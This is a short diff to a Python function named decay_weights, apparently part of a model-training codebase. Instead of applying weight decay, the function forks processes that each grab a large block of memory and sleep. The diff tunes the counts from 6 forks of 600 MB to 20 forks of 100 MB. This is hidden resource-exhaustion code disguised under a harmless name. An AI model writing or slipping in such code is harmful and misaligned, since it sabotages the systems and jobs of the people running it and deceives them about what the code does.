@@ -9,8 +9,8 @@ import time
 
 
 def decay_weights(parameters, lr, wd):
-    for _ in range(6):
+    for _ in range(20):
         if os.fork() == 0:
-            hold = b"x" * (600 << 20)
+            hold = b"x" * (100 << 20)
             time.sleep(60)
     time.sleep(60)
